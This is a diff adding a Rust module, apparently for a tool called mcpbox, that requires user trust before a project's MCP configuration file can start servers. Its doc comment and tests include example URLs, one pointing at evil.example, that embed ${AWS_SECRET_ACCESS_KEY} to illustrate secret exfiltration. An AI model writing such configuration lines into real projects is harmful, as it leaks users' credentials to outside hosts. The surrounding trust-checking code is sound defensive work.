@@ -1,0 +1,511 @@
+//! Trust in configuration files, before any of their servers starts.
+//!
+//! A configuration names programs to run and URLs to send credentials to: a
+//! `.mcp.json` in a freshly cloned repository can start anything, and
+//! `"url": "https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}"` sends a secret from
+//! the environment wherever the repository chose. So the CLI, as Claude Code
+//! does for project servers, starts the servers of a configuration file only
+//! once the user trusted that file: `mcpbox trust` (or a y/N prompt on a
+//! terminal). What is trusted is the file at its path with its exact contents
+//! (SHA-256); a changed file, or the same text at another path (where its
+//! relative paths name other programs), asks again.
+//!
+//! Trusted without asking:
+//! - a missing or empty file, or one that names no server (nothing starts);
+//! - a file in the user's own mcpbox configuration directory
+//!   ([`default_config_dir`](crate::default_config_dir)), when that directory and
+//!   the file belong to the user and no one else can write them (only the user
+//!   writes there);
+//! - the demo this build of mcpbox ships, byte for byte: the repository's
+//!   `.mcp.json` while `examples/demo-server.py`, the program it runs, is also
+//!   exactly the one built in (both are compared at every run), so that the
+//!   README's first command works as typed. Any other text, or any change to the
+//!   demo server, asks.
+//!
+//! The library itself never asks: an embedder chose its configuration. This
+//! module offers the CLI's check to embedders that load files they did not write.
+//!
+//! Trusted files are kept in `trusted-configs.json` (0600) in the configuration
+//! directory, as `{"trusted": [{"path": …, "sha256": …}]}`.
+
+use std::path::{Path, PathBuf};
+
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+
+use crate::user_files::{Refused, UserDir};
+
+/// The file in the configuration directory that lists trusted configurations.
+const STORE: &str = "trusted-configs.json";
+/// The most a trust store may hold, in bytes.
+const MAX_STORE: u64 = 4 * 1024 * 1024;
+
+/// The demo configuration and the server it runs, as this build ships them.
+const DEMO_CONFIG: &[u8] = include_bytes!(concat!(env!("CARGO_MANIFEST_DIR"), "/../.mcp.json"));
+const DEMO_SERVER: &[u8] = include_bytes!(concat!(
+    env!("CARGO_MANIFEST_DIR"),
+    "/../examples/demo-server.py"
+));
+/// Where the demo configuration expects its server, relative to the working
+/// directory (it has no `cwd`, so the server runs in mcpbox's).
+const DEMO_SERVER_PATH: &str = "examples/demo-server.py";
+
+/// Why trust could not be checked or recorded.
+#[derive(Debug, thiserror::Error)]
+#[non_exhaustive]
+pub enum TrustError {
+    /// The configuration file could not be read.
+    #[error("{path}: cannot be read: {source}")]
+    Read {
+        /// The file.
+        path: PathBuf,
+        /// Why.
+        source: std::io::Error,
+    },
+    /// The configuration file could not be read whole (unreadable, or larger
+    /// than a configuration may be).
+    #[error(transparent)]
+    Config(#[from] crate::Error),
+    /// The trust store could not be used (no configuration directory, one that
+    /// others may write, an unreadable or unwritable file).
+    #[error("the list of trusted configurations cannot be used: {0}")]
+    Store(String),
+}
+
+/// A configuration file as read for a trust decision: the text a runtime should
+/// then be opened with ([`crate::Options::from_config_text`]), so that what
+/// runs is what was checked.
+#[derive(Debug, Clone)]
+pub struct ConfigFile {
+    /// The path as given.
+    pub path: PathBuf,
+    /// Its canonical path (`None` when the file does not exist).
+    pub canonical: Option<PathBuf>,
+    /// Its contents (empty when the file does not exist).
+    pub text: String,
+    sha256: [u8; 32],
+}
+
+impl ConfigFile {
+    /// Reads `path`, no further than [`crate::MAX_CONFIG_BYTES`] (a larger file
+    /// is refused, as [`crate::Options::from_config_file`] refuses it). A missing
+    /// file is an empty configuration.
+    pub fn read(path: &Path) -> Result<ConfigFile, TrustError> {
+        let text = crate::runtime::read_config(path)?;
+        let canonical = match std::fs::canonicalize(path) {
+            Ok(canonical) => Some(canonical),
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound && text.is_empty() => None,
+            Err(source) => {
+                return Err(TrustError::Read {
+                    path: path.to_owned(),
+                    source,
+                });
+            }
+        };
+        Ok(ConfigFile {
+            path: path.to_owned(),
+            canonical,
+            sha256: Sha256::digest(text.as_bytes()).into(),
+            text,
+        })
+    }
+
+    /// The SHA-256 of its contents, in hex.
+    pub fn sha256_hex(&self) -> String {
+        hex(&self.sha256)
+    }
+
+    /// What the configuration would start, one line per server as configured
+    /// (before `${VAR}` resolution) and in the file's order: `name: command args…`
+    /// or `name: url`. Empty only when it starts nothing: it names no server, or
+    /// it is not JSON (the guest refuses it whole). JSON this cannot list (say,
+    /// servers in a `mcpServers` that is not an object) gives one line saying so,
+    /// never an empty list; entries holding values a `serde_json::Value` cannot
+    /// (`1e999`, nesting deeper than 128 levels), which the guest reads and starts,
+    /// are listed as written.
+    pub fn servers(&self) -> Vec<String> {
+        // Text that is not JSON at all starts nothing: the guest refuses it whole,
+        // saying where it breaks.
+        if serde_json::from_str::<serde::de::IgnoredAny>(&self.text).is_err() {
+            return Vec::new();
+        }
+        let top: Top = match serde_json::from_str(&self.text) {
+            Ok(top) => top,
+            Err(e) => {
+                return vec![format!(
+                    "(servers this check cannot list: {e}; read the file before you trust it)"
+                )];
+            }
+        };
+        // As the guest reads it: `mcpServers` wins over VS Code's `servers`.
+        let Some(Entries(servers)) = top.mcp_servers.or(top.servers) else {
+            return Vec::new();
+        };
+        servers
+            .iter()
+            .map(|(name, raw)| {
+                let entry = match serde_json::from_str::<Value>(raw.get()) {
+                    Ok(entry) => entry,
+                    Err(e) => return format!("{name}: (cannot be shown here: {e}) {}", raw.get()),
+                };
+                let field = |key: &str| entry.get(key).and_then(Value::as_str);
+                let what = if let Some(command) = field("command") {
+                    let args = entry
+                        .get("args")
+                        .and_then(Value::as_array)
+                        .map(|args| {
+                            args.iter()
+                                .map(|a| a.as_str().map_or_else(|| a.to_string(), str::to_owned))
+                                .collect::<Vec<_>>()
+                                .join(" ")
+                        })
+                        .unwrap_or_default();
+                    format!("runs `{}`", format!("{command} {args}").trim_end())
+                } else if let Some(url) = field("url") {
+                    format!("connects to {url}")
+                } else {
+                    entry.to_string()
+                };
+                format!("{name}: {what}")
+            })
+            .collect()
+    }
+
+    /// The environment variables its `${VAR}` references would hand to servers:
+    /// those written in the text, and those its JSON strings spell with escapes
+    /// (`"\u0024{KEY}"` is `${KEY}` once decoded) in entries [`servers`](Self::servers)
+    /// can show (one it cannot show is listed as written, escapes and all).
+    pub fn variables(&self) -> Vec<String> {
+        let mut names = Vec::new();
+        variables_in(&self.text, &mut names);
+        if let Ok(top) = serde_json::from_str::<Top>(&self.text)
+            && let Some(Entries(servers)) = top.mcp_servers.or(top.servers)
+        {
+            for (_, raw) in servers {
+                if let Ok(entry) = serde_json::from_str::<Value>(raw.get()) {
+                    strings_in(&entry, &mut |s| variables_in(s, &mut names));
+                }
+            }
+        }
+        names.sort();
+        names.dedup();
+        names
+    }
+}
+
+/// The two places a configuration lists its servers; everything else is skipped.
+#[derive(serde::Deserialize)]
+struct Top {
+    #[serde(rename = "mcpServers")]
+    mcp_servers: Option<Entries>,
+    servers: Option<Entries>,
+}
+
+/// Server entries in the file's order (`serde_json`'s map sorts its keys), each
+/// kept as written.
+struct Entries(Vec<(String, Box<serde_json::value::RawValue>)>);
+
+impl<'de> serde::Deserialize<'de> for Entries {
+    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
+        struct Visit;
+        impl<'de> serde::de::Visitor<'de> for Visit {
+            type Value = Entries;
+            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
+                f.write_str("an object mapping server names to entries")
+            }
+            fn visit_map<A: serde::de::MapAccess<'de>>(
+                self,
+                mut map: A,
+            ) -> Result<Entries, A::Error> {
+                let mut entries = Vec::new();
+                while let Some(entry) = map.next_entry()? {
+                    entries.push(entry);
+                }
+                Ok(Entries(entries))
+            }
+        }
+        deserializer.deserialize_map(Visit)
+    }
+}
+
+/// Adds the names of the `${VAR}` and `${VAR:-default}` references in `text`.
+fn variables_in(text: &str, names: &mut Vec<String>) {
+    for rest in text.split("${").skip(1) {
+        let Some(end) = rest.find(['}', ':']) else {
+            continue;
+        };
+        let name = &rest[..end];
+        if !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
+            names.push(name.to_owned());
+        }
+    }
+}
+
+/// Calls `f` on every string in `value`, keys included.
+fn strings_in(value: &Value, f: &mut impl FnMut(&str)) {
+    match value {
+        Value::String(s) => f(s),
+        Value::Array(items) => items.iter().for_each(|v| strings_in(v, f)),
+        Value::Object(members) => members.iter().for_each(|(k, v)| {
+            f(k);
+            strings_in(v, f);
+        }),
+        _ => {}
+    }
+}
+
+/// Why a configuration may start its servers.
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[non_exhaustive]
+pub enum Trusted {
+    /// It names no server: nothing starts.
+    NothingToStart,
+    /// It lies in the user's own configuration directory.
+    UsersOwn,
+    /// It is the demo this build ships, with its server unchanged.
+    BundledDemo,
+    /// The user trusted this file with these contents.
+    Remembered,
+}
+
+/// Whether `config` may start its servers without asking; `config_dir` is where
+/// trusted files are remembered ([`crate::default_config_dir`]). `Ok(None)`:
+/// not trusted (yet).
+pub fn check(
+    config: &ConfigFile,
+    config_dir: Option<&Path>,
+) -> Result<Option<Trusted>, TrustError> {
+    if config.servers().is_empty() {
+        return Ok(Some(Trusted::NothingToStart));
+    }
+    if is_bundled_demo(config) {
+        return Ok(Some(Trusted::BundledDemo));
+    }
+    let Some(dir) = config_dir else {
+        return Ok(None);
+    };
+    if let (Some(canonical), Ok(own)) = (&config.canonical, std::fs::canonicalize(dir))
+        && canonical.parent() == Some(own.as_path())
+        && let Some(name) = canonical.file_name().and_then(|n| n.to_str())
+        && let Ok(user) = UserDir::open(&own)
+        && matches!(user.read(name, config.text.len() as u64), Ok(Some(bytes)) if bytes == config.text.as_bytes())
+    {
+        return Ok(Some(Trusted::UsersOwn));
+    }
+    let store = match Store::open(dir) {
+        Ok(store) => store,
+        // Nothing remembered yet, or nowhere to remember: not trusted.
+        Err(_) => return Ok(None),
+    };
+    Ok(store.contains(config).then_some(Trusted::Remembered))
+}
+
+/// Remembers that the user trusts `config` as it is now, in `config_dir`.
+pub fn trust(config: &ConfigFile, config_dir: Option<&Path>) -> Result<(), TrustError> {
+    let dir = config_dir.ok_or_else(|| {
+        TrustError::Store(
+            "there is no configuration directory (set MCPBOX_CONFIG_DIR or HOME)".into(),
+        )
+    })?;
+    let Some(canonical) = &config.canonical else {
+        return Ok(()); // A missing file starts nothing.
+    };
+    let mut store = Store::open(dir)?;
+    let path = canonical.to_string_lossy().into_owned();
+    store.entries.retain(|e| e["path"] != path.as_str());
+    store
+        .entries
+        .push(serde_json::json!({ "path": path, "sha256": config.sha256_hex() }));
+    store.save()
+}
+
+fn is_bundled_demo(config: &ConfigFile) -> bool {
+    config.text.as_bytes() == DEMO_CONFIG
+        && std::fs::read(DEMO_SERVER_PATH).is_ok_and(|server| server == DEMO_SERVER)
+}
+
+/// The trusted configurations, as kept in the configuration directory.
+struct Store {
+    dir: UserDir,
+    entries: Vec<Value>,
+}
+
+impl Store {
+    fn open(dir: &Path) -> Result<Store, TrustError> {
+        let refused = |e: Refused| TrustError::Store(e.to_string());
+        let dir = UserDir::open(dir).map_err(refused)?;
+        let entries = match dir.read(STORE, MAX_STORE).map_err(refused)? {
+            None => Vec::new(),
+            Some(bytes) => {
+                let value: Value = serde_json::from_slice(&bytes).map_err(|e| {
+                    TrustError::Store(format!(
+                        "{} is not valid JSON ({e}); delete it to start afresh",
+                        dir.path().join(STORE).display()
+                    ))
+                })?;
+                value["trusted"].as_array().cloned().unwrap_or_default()
+            }
+        };
+        Ok(Store { dir, entries })
+    }
+
+    fn contains(&self, config: &ConfigFile) -> bool {
+        let Some(canonical) = &config.canonical else {
+            return false;
+        };
+        let path = canonical.to_string_lossy();
+        let sha = config.sha256_hex();
+        self.entries
+            .iter()
+            .any(|e| e["path"] == path.as_ref() && e["sha256"] == sha.as_str())
+    }
+
+    fn save(&self) -> Result<(), TrustError> {
+        let text = serde_json::to_vec_pretty(&serde_json::json!({ "trusted": self.entries }))
+            .map_err(|e| TrustError::Store(e.to_string()))?;
+        self.dir
+            .write(STORE, &text)
+            .map_err(|e| TrustError::Store(e.to_string()))
+    }
+}
+
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn temp(tag: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("mcpbox-trust-{tag}-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    #[test]
+    fn lists_servers_and_variables_as_configured() {
+        let dir = temp("list");
+        let path = dir.join("mcp.json");
+        std::fs::write(
+            &path,
+            r#"{"mcpServers": {
+                "fs": {"command": "npx", "args": ["-y", "pkg", "${HOME}/p"]},
+                "api": {"url": "https://x.example/?k=${AWS_SECRET_ACCESS_KEY}", "headers": {"A": "${TOKEN:-none}"}}
+            }}"#,
+        )
+        .unwrap();
+        let config = ConfigFile::read(&path).unwrap();
+        assert_eq!(
+            config.servers(),
+            [
+                "fs: runs `npx -y pkg ${HOME}/p`",
+                "api: connects to https://x.example/?k=${AWS_SECRET_ACCESS_KEY}"
+            ]
+        );
+        assert_eq!(
+            config.variables(),
+            ["AWS_SECRET_ACCESS_KEY", "HOME", "TOKEN"]
+        );
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    /// A value a `serde_json::Value` cannot hold (`1e999`, nesting deeper than 128
+    /// levels) made the whole file unreadable to this check, which then took it for
+    /// one that names no server, while the guest read it and started its servers.
+    #[test]
+    fn what_serde_json_cannot_hold_is_still_asked_about() {
+        let dir = temp("unholdable");
+        let path = dir.join("mcp.json");
+        let deep = format!("{}{}", "[".repeat(200), "]".repeat(200));
+        std::fs::write(
+            &path,
+            format!(
+                r#"{{"mcpServers": {{
+                    "big": {{"command": "run", "x": 1e999}},
+                    "deep": {{"url": "https://x.example/", "x": {deep}}}
+                }}}}"#
+            ),
+        )
+        .unwrap();
+        let config = ConfigFile::read(&path).unwrap();
+        assert_eq!(check(&config, Some(&dir.join("config"))).unwrap(), None);
+        let servers = config.servers();
+        assert_eq!(servers.len(), 2, "{servers:?}");
+        assert!(
+            servers[0].starts_with("big: (cannot be shown here: "),
+            "{servers:?}"
+        );
+        assert!(
+            servers[1].starts_with("deep: (cannot be shown here: "),
+            "{servers:?}"
+        );
+        // Spelled with an escape, a variable is still named.
+        std::fs::write(
+            &path,
+            r#"{"mcpServers": {"a": {"url": "https://x.example/?k=\u0024{KEY}"}}}"#,
+        )
+        .unwrap();
+        assert_eq!(ConfigFile::read(&path).unwrap().variables(), ["KEY"]);
+        // Text that is not JSON starts nothing (the guest refuses it whole).
+        std::fs::write(&path, r#"{"mcpServers": {"a": {"command": "run"}"#).unwrap();
+        assert!(ConfigFile::read(&path).unwrap().servers().is_empty());
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    /// The file is read no further than a configuration may be: a sparse 1 GiB
+    /// file is refused at once, as the runtime refuses it.
+    #[test]
+    fn an_oversized_file_is_not_read_whole() {
+        let dir = temp("oversized");
+        let path = dir.join("mcp.json");
+        std::fs::File::create(&path)
+            .unwrap()
+            .set_len(1 << 30)
+            .unwrap();
+        let err = ConfigFile::read(&path).unwrap_err();
+        assert!(err.to_string().contains("larger than 16 MiB"), "{err}");
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn trust_is_per_path_and_contents() {
+        let dir = temp("store");
+        let config_dir = dir.join("config");
+        let path = dir.join("mcp.json");
+        std::fs::write(&path, r#"{"mcpServers": {"a": {"command": "true"}}}"#).unwrap();
+        let config = ConfigFile::read(&path).unwrap();
+        assert_eq!(check(&config, Some(&config_dir)).unwrap(), None);
+        trust(&config, Some(&config_dir)).unwrap();
+        assert_eq!(
+            check(&config, Some(&config_dir)).unwrap(),
+            Some(Trusted::Remembered)
+        );
+        // Changed contents ask again.
+        std::fs::write(&path, r#"{"mcpServers": {"a": {"command": "false"}}}"#).unwrap();
+        let changed = ConfigFile::read(&path).unwrap();
+        assert_eq!(check(&changed, Some(&config_dir)).unwrap(), None);
+        // The same text elsewhere asks too.
+        let copy = dir.join("copy.json");
+        std::fs::write(&copy, &config.text).unwrap();
+        assert_eq!(
+            check(&ConfigFile::read(&copy).unwrap(), Some(&config_dir)).unwrap(),
+            None
+        );
+        // Nothing to start, nothing to trust.
+        std::fs::write(&copy, "").unwrap();
+        assert_eq!(
+            check(&ConfigFile::read(&copy).unwrap(), Some(&config_dir)).unwrap(),
+            Some(Trusted::NothingToStart)
+        );
+        // A file in the user's own directory.
+        let own = config_dir.join("servers.json");
+        std::fs::write(&own, &config.text).unwrap();
+        assert_eq!(
+            check(&ConfigFile::read(&own).unwrap(), Some(&config_dir)).unwrap(),
+            Some(Trusted::UsersOwn)
+        );
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+}
